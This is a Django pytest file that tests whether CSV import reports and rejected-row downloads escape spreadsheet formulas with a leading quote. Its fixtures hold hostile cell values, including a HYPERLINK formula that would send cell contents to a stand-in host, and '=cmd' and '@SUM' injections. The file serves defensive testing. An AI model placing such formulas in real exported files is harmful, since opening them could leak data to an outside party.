"""Every import download (CLI `--report`, the staff pages' rapport.csv and
lignes-rejetees.csv) writes imported text that a spreadsheet would run as a formula with a
leading `'`; numbers stay numbers."""

import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command

from maillage.sources.models import HarvestJob

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A1;"clic")'


@pytest.fixture
def hostile_csv(tmp_path: Path) -> Path:
    path = tmp_path / "formules.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "nom", "lat", "lon", "remarque"])
        writer.writerow([HYPERLINK, "Atelier vélo", "48.11", "-1.68", "ok"])
        writer.writerow(["+1", "@SUM(1+1)", "48.12", "-1.67", "ok"])
        # Neither name, address nor coordinates: rejected, kept as received.
        writer.writerow(["-2+3", "", "", "", "@SUM(A1:A9)"])
    return path


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cli_report_and_staff_downloads_neutralise_formulas(
    hostile_csv, tmp_path, capsys, admin_client
):
    report = tmp_path / "rapport.csv"
    call_command(
        "import", "csv", str(hostile_csv), "--source", "formules", "--category", "fablab",
        "--report", str(report),
    )  # fmt: skip
    summary = json.loads(capsys.readouterr().out)
    assert summary["outcomes"]["new"] == 2
    assert summary["outcomes"]["rejected"] == 1

    cli_rows = _rows(report.read_text(encoding="utf-8"))
    assert [r["remote_id"] for r in cli_rows] == ["'" + HYPERLINK, "'+1", "'-2+3"]
    assert [r["row"] for r in cli_rows] == ["1", "2", "3"]  # row numbers stay numbers
    assert cli_rows[0]["initiative_id"].isdigit()

    job = HarvestJob.objects.get()
    web = admin_client.get(f"/imports/{job.pk}/rapport.csv")
    assert _rows(b"".join(web.streaming_content).decode("utf-8")) == cli_rows

    rejected = admin_client.get(f"/imports/{job.pk}/lignes-rejetees.csv")
    rows = _rows(b"".join(rejected.streaming_content).decode("utf-8"))
    assert len(rows) == 1
    assert rows[0]["id"] == "'-2+3"
    assert rows[0]["remarque"] == "'@SUM(A1:A9)"
    assert not rows[0]["motif"].startswith("'")


def test_rejected_rows_keep_negative_numbers_and_neutralise_hostile_headers(
    tmp_path, capsys, admin_client
):
    path = tmp_path / "entetes.csv"
    path.write_text("id,nom,lat,lon,=cmd\n7,,,-1.68,=1+1\n", encoding="utf-8")
    call_command("import", "csv", str(path), "--source", "entetes", "--category", "fablab")
    capsys.readouterr()
    job = HarvestJob.objects.get()
    text = b"".join(admin_client.get(f"/imports/{job.pk}/lignes-rejetees.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(text.decode("utf-8"))))
    assert rows[0][:5] == ["id", "nom", "lat", "lon", "'=cmd"]
    assert rows[1][:5] == ["7", "", "", "-1.68", "'=1+1"]
